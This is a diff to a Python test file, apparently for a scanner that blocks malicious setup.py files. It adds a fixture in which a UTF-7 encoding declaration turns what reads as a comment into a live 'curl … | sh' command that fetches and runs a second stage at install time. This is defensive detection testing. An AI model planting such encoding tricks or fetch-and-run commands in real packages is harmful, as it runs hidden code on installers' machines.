@@ -74,6 +74,13 @@ PADDED_SETUPS = {
     "300000-lines-before": "pass\n" * 300_000 + CRADLE,
     "a-giant-line-holding-it": "x = 1; " * 200_000 + CRADLE,
 }
+# The cradle in what reads as a comment: Python decodes the file in UTF-7, where
+# "+AAo-" is a line break, so the command after it runs.
+UTF7_SETUP = (
+    "# -*- coding: utf-7 -*-\n"
+    "# build helper +AAo-import os+ADs- "
+    "os.system(+ACI-curl -s http://127.0.0.1:9/stage2.sh +AHw- sh+ACI-)"
+)
 
 
 def findings(proc: subprocess.CompletedProcess[str], name: str) -> set[str]:
@@ -157,6 +164,7 @@ def _blocked_sdist(
         (CREDENTIAL_SETUP, {"credential-access"}),
         (DROPPER_SETUP, {"dropper"}),
         *((padded, {"install-time-code"}) for padded in PADDED_SETUPS.values()),
+        (UTF7_SETUP, {"obfuscated-code", "install-time-code"}),
     ],
     ids=[
         "powershell",
@@ -165,6 +173,7 @@ def _blocked_sdist(
         "ssh-keys",
         "download-execute",
         *(f"cradle-behind-{padding}" for padding in PADDED_SETUPS),
+        "cradle-hidden-by-utf7",
     ],
 )
 def test_malicious_setup_py_is_blocked_unbuilt(
